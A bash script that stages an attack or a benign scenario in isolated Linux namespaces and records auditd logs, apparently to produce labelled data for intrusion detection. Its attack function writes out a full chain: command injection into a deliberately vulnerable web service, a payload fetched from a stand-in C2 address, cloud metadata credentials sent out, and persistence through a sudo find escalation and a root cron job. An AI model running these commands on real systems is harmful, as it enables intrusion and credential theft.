#!/bin/bash
# Records a scenario with auditd.  Usage: record.sh attack|benign OUTPUT
#
# Run as root on a throwaway Debian or Ubuntu machine. Everything happens in mount, host-name and network
# namespaces of its own, over copies and overlays that vanish with them: no user, file, route or cron job reaches the machine.
# The audit rules are the machine's own and are removed at the end; they match only login uids 0 and `deploy`.
set -euo pipefail

die() { echo "record.sh: $*" >&2; exit 1; }

# ---------------------------------------------------------------- outer: the audit daemon and the clean-up

check() {
  [ "$(id -u)" = 0 ] || die "run as root"
  local tool package
  while read -r tool package; do
    command -v "$tool" >/dev/null || die "'$tool' is missing: apt-get install $package"
  done <<'TOOLS'
auditd auditd
auditctl auditd
cron cron
logrotate logrotate
sshd openssh-server
ssh openssh-client
sudo sudo
curl curl
gcc gcc
make make
ip iproute2
ps procps
/usr/bin/python3 python3
TOOLS
  auditctl -s >/dev/null || die "the kernel gives no access to audit (a container? use the initial pid and user namespace)"
  local holder; holder=$(auditctl -s | awk '$1 == "pid" {print $2}')
  [ "$holder" = 0 ] || die "process $holder already receives the audit events; stop it first: service auditd stop"
  [ "$(auditctl -l)" = "No rules" ] || die "audit rules are loaded; remove them first: auditctl -D"
  [ -r /proc/self/loginuid ] || die "the kernel has no login uids (CONFIG_AUDITSYSCALL)"
}

outer() {
  [ $# = 2 ] && [[ $1 =~ ^(attack|benign)$ ]] || die "usage: record.sh attack|benign OUTPUT"
  check
  local output; output=$(realpath "$2")
  files=$(cd "$(dirname "$0")/files" && pwd)
  scratch=$(mktemp -d /run/record.XXXXXX)
  enabled=$(auditctl -s | awk '$1 == "enabled" {print $2}')
  backlog=$(auditctl -s | awk '$1 == "backlog_limit" {print $2}')
  # Session ids only grow: what has a greater one than this belongs to the recording.
  first_session=$(sh -c 'echo 0 > /proc/self/loginuid; cat /proc/self/sessionid')
  trap clean EXIT
  trap 'exit 1' INT TERM

  mkdir "$scratch/audit" "$scratch/plugins"
  cat > "$scratch/audit/auditd.conf" <<CONF
local_events = yes
write_logs = yes
log_file = $scratch/audit.log
log_format = RAW
flush = INCREMENTAL_ASYNC
freq = 50
max_log_file = 64
max_log_file_action = IGNORE
space_left = 2
space_left_action = IGNORE
admin_space_left = 1
admin_space_left_action = IGNORE
disk_full_action = IGNORE
disk_error_action = IGNORE
name_format = NONE
plugin_dir = $scratch/plugins
CONF
  chmod 640 "$scratch/audit/auditd.conf"
  auditd -n -c "$scratch/audit" >/dev/null 2>&1 & auditd=$!
  wait_until "auditctl -s | grep -q '^pid $auditd\$'" 10 || die "auditd did not start"
  auditctl -b 16384 >/dev/null

  unshare --mount --uts --net --propagation private "$0" --inside "$1" "$files" "$scratch" &
  inside=$!
  wait "$inside" || die "the scenario failed"
  sleep 2
  auditctl -D >/dev/null 2>&1
  auditctl -s | grep '^lost'
  kill "$auditd"; wait "$auditd" || true
  keep_own "$first_session" < "$scratch/audit.log" > "$output"
  echo "$output: $(wc -l < "$output") of $(wc -l < "$scratch/audit.log") records kept"
}

# Keeps the events of the recording, whole and unchanged: those of a login session that began with it, the messages of
# its own sshd, cron and sudo before a session exists, and the loading of its audit rules.
keep_own() {
  awk -v first="$1" '
    { match($0, /msg=audit\([^)]*\)/); id = substr($0, RSTART, RLENGTH); line[NR] = $0; event[NR] = id }
    match($0, / ses=[0-9]+/) {
      session = substr($0, RSTART + 5, RLENGTH - 5) + 0
      if (session > first && session < 4294967295) keep[id] = 1
    }
    /^type=CONFIG_CHANGE .*key="?(exec|net|file|mode|credential)/ { keep[id] = 1 }
    /^type=(USER|CRED|CRYPTO|LOGIN)/ && /exe="\/usr\/s?bin\/(sshd|cron|sudo)"/ { keep[id] = 1 }
    END { for (n = 1; n <= NR; n++) if (keep[event[n]]) print line[n] }'
}

wait_until() { local i; for ((i = 0; i < $2 * 10; i++)); do eval "$1" && return; sleep 0.1; done; return 1; }

# Ends what still runs in the namespaces of the recording, then puts audit back as it was.
clean() {
  set +e
  local net pid
  for net in $(cat "$scratch/namespaces" 2>/dev/null); do
    for pid in /proc/[0-9]*; do
      [ "$(readlink "$pid/ns/net" 2>/dev/null)" = "$net" ] && kill -9 "${pid#/proc/}" 2>/dev/null
    done
  done
  kill "$auditd" 2>/dev/null; wait "$auditd" 2>/dev/null
  auditctl -D >/dev/null 2>&1
  auditctl -b "$backlog" >/dev/null 2>&1
  auditctl -e "$enabled" >/dev/null 2>&1
  rm -rf "$scratch"
}

# ---------------------------------------------------------------- inside: the host that is recorded

inside() {
  kind=$1; stage=/run/stage
  if [ "$kind" = attack ]; then host=web-1; service=shop; else host=app-1; service=orders; fi
  exec 9> "$3/namespaces"  # stays open: /run is covered below
  readlink /proc/self/ns/net >&9
  hostname "$host"
  private_files "$2"
  network
  people
  install_service
  audit_rules
  cron; /usr/sbin/sshd -o UsePAM=yes
  if [ "$kind" = attack ]; then attack; else benign; fi
}

private_files() {
  mount -t tmpfs -o mode=755 tmpfs /mnt
  cp -r "$1" /mnt/files
  cp -a /etc /mnt/etc
  mkdir /mnt/var /mnt/work
  mount -t overlay -o lowerdir=/var,upperdir=/mnt/var,workdir=/mnt/work overlay /var
  mount --bind /mnt/etc /etc
  mount -t tmpfs -o mode=700 tmpfs /root
  local directory
  for directory in /home /srv /run; do mount -t tmpfs -o mode=755 tmpfs $directory; done
  for directory in /tmp /var/tmp /dev/shm; do mount -t tmpfs -o mode=1777 tmpfs $directory; done
  mkdir -p $stage /run/sshd /run/lock
  cp /mnt/files/* $stage
  umount -l /mnt
  rm -f /etc/cron.d/* /etc/sudoers.d/* /etc/systemd/system/*.service
  cd /
}

# eth0 leads to a second namespace that plays the rest of the world.
network() {
  ip netns add internet
  nsenter --net=/run/netns/internet readlink /proc/self/ns/net >&9
  ip link add eth0 type veth peer name host netns internet
  ip address add 10.0.1.10/24 dev eth0
  ip link set lo up; ip link set eth0 up
  ip route add default via 10.0.1.1
  outside ip link set lo up; outside ip link set host up
  local address
  for address in 10.0.1.1/24 203.0.113.66/32 198.51.100.10/32 198.51.100.20/32 169.254.169.254/32; do
    outside ip address add $address dev host
  done
  printf '127.0.0.1 localhost\n10.0.1.10 %s\n198.51.100.10 mirror.example.net\n' "$host" > /etc/hosts
  : > /etc/resolv.conf
  outside /usr/bin/python3 $stage/internet.py $stage/beacon.sh $stage/internet.log >/dev/null 2>&1 &
  wait_until "grep -qs ready $stage/internet.log" 10 || die "the outside servers did not start"
}

outside() { nsenter --net=/run/netns/internet "$@"; }

people() {
  uid=1001; while getent passwd $uid >/dev/null; do uid=$((uid + 1)); done
  useradd --uid $uid --create-home --shell /bin/bash deploy
  ssh-keygen -q -t ed25519 -N '' -C admin@office -f $stage/key
  ssh-keygen -A >/dev/null
  install -d -o deploy -g deploy -m 700 /home/deploy/.ssh
  install -o deploy -g deploy -m 600 $stage/key.pub /home/deploy/.ssh/authorized_keys
  echo 'deploy ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/deploy
  # The misconfiguration: meant for "clean old exports", but find runs any command.
  [ "$kind" = benign ] || echo 'www-data ALL=(root) NOPASSWD: /usr/bin/find' > /etc/sudoers.d/shop-exports
  chmod 440 /etc/sudoers.d/*
  mkdir -p /root/.ssh
}

install_service() {
  mkdir -p /srv/$service /var/log/$service /home/deploy/hello
  cp $stage/$service.py /srv/$service/app.py
  chown www-data /var/log/$service
  /usr/bin/python3 - > /srv/$service/catalog.json <<'PY'
import json
print(json.dumps([{"sku": f"A-{n:04}", "name": f"Enamel mug no. {n}", "price": 900 + n, "stock": n % 17} for n in range(150)]))
PY
  printf '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n' > /home/deploy/hello/hello.c
  printf 'hello: hello.c\n\tgcc -O1 -o hello hello.c\n' > /home/deploy/hello/Makefile
  chown -R deploy: /home/deploy/hello
  printf '/var/log/%s/*.log {\n  size 1\n  rotate 3\n  missingok\n  copytruncate\n}\n' $service > /etc/logrotate.d/$service
  chmod 644 /etc/logrotate.d/$service
  cat > /etc/cron.d/$service <<CRON
PATH=/usr/sbin:/usr/bin:/sbin:/bin
* * * * * root logrotate /etc/logrotate.d/$service
* * * * * deploy curl -fsS -o /dev/null http://127.0.0.1:8080/health
CRON
}

audit_rules() {
  local auid
  for auid in 0 $uid; do
    rule() { echo "-a always,exit -F arch=b64 $1 -F auid=$auid -k $2"; }
    rule "-S execve,execveat" exec
    rule "-S connect" net_connect
    rule "-S accept,accept4" net_accept
    rule "-S chmod,fchmod,fchmodat" mode
    local directory
    for directory in /etc/cron.d /var/spool/cron /etc/systemd/system /etc/sudoers.d /root/.ssh /home/deploy/.ssh; do
      rule "-F dir=$directory -F perm=wa" file_persistence
    done
    for directory in /tmp /var/tmp /dev/shm; do rule "-F dir=$directory -F perm=wa" file_temporary; done
    rule "-F path=/etc/shadow -F perm=r" credential_read
  done > $stage/audit.rules
  auditctl -R $stage/audit.rules >/dev/null || die "the audit rules did not load"
}

# An interactive login by ssh that types one line each $1 seconds.
ssh_session() {
  local pause=$1 line
  while IFS= read -r line; do sleep "$pause"; printf '%s\n' "$line"; done |
    outside ssh -tt -b 198.51.100.20 -i $stage/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      -o LogLevel=ERROR deploy@10.0.1.10 >> $stage/sessions.log 2>&1 || true
}

deploy_session() {
  ssh_session 0.7 <<SESSION
ls -la /srv/$service
sudo start-stop-daemon --start --background --make-pidfile --pidfile /run/$service.pid --chuid www-data --chdir /srv/$service --exec /usr/bin/python3 -- /srv/$service/app.py
sleep 1
curl -fsS http://127.0.0.1:8080/health
curl -s -X POST -H 'Content-Type: application/json' -d "\$(cat /srv/$service/catalog.json)" http://127.0.0.1:8080/catalog
cd ~/hello && make && ./hello
cd
exit
SESSION
}

admin_session() {
  ssh_session 1.2 <<SESSION
uptime
ps aux | grep python3
df -h / | tail -1
dpkg -l | grep -c ^ii
dpkg-query -W openssl curl
apt-cache policy curl
sudo tail -n 5 /var/log/$service/access.log
ss -ltn
ls -l /etc/cron.d
grep -l GPL /usr/share/doc/*/copyright | wc -l
curl -s http://mirror.example.net/debian/dists/stable/Release -o /tmp/Release
sha256sum /tmp/Release
rm /tmp/Release
exit
SESSION
}

# One request of the intruder to the hole in the web service.
inject() { outside curl -s -m 40 --interface 203.0.113.66 -G --data-urlencode "sku=A-0001; $1" http://10.0.1.10:8080/label >> $stage/intruder.log; sleep "${2:-3}"; }

attack() {
  deploy_session
  admin_session & local admin=$!
  sleep 4
  local imds=http://169.254.169.254/latest c2=http://203.0.113.66
  outside curl -s --interface 203.0.113.66 'http://10.0.1.10:8080/label?sku=A-0001' > $stage/intruder.log
  inject 'id; whoami'
  inject 'uname -a; cat /etc/passwd; sudo -n -l'
  inject "curl -s -o /tmp/.sysupd $c2/sysupd"
  inject 'chmod +x /tmp/.sysupd' 1
  inject 'nohup setsid /tmp/.sysupd >/dev/null 2>&1 & sleep 1' 4
  inject "T=\$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' $imds/api/token); R=\$(curl -s -H \"X-aws-ec2-metadata-token: \$T\" $imds/meta-data/iam/security-credentials/); curl -s -H \"X-aws-ec2-metadata-token: \$T\" -o /dev/shm/.c $imds/meta-data/iam/security-credentials/\$R"
  inject "curl -s --data-binary @/dev/shm/.c $c2/u"
  inject "sudo -n find /var/tmp -maxdepth 0 -exec /bin/sh -c 'cp /tmp/.sysupd /var/tmp/.sysupd; echo \"* * * * * root /var/tmp/.sysupd >/dev/null 2>&1\" > /etc/cron.d/sysupd' \\;"
  inject 'rm -f /tmp/.sysupd /dev/shm/.c'
  wait $admin
  # The cron job of the intruder must have run once, and the first beacon must have ended.
  wait_until "[ \$(grep -c '^beacon hello' $stage/internet.log) -ge 6 ]" 120 || die "the beacon did not start from cron"
  sleep 10
}

benign() {
  deploy_session
  ssh_session 1 <<'SESSION'
curl -s http://169.254.169.254/latest/meta-data/instance-id
curl -s 'http://127.0.0.1:8080/label?sku=A-0001'
whoami
id
uname -a
exit
SESSION
  admin_session
  sleep $((62 - $(date +%-S)))
  sleep 3
}

if [ "${1:-}" = --inside ]; then shift; inside "$@"; else outer "$@"; fi
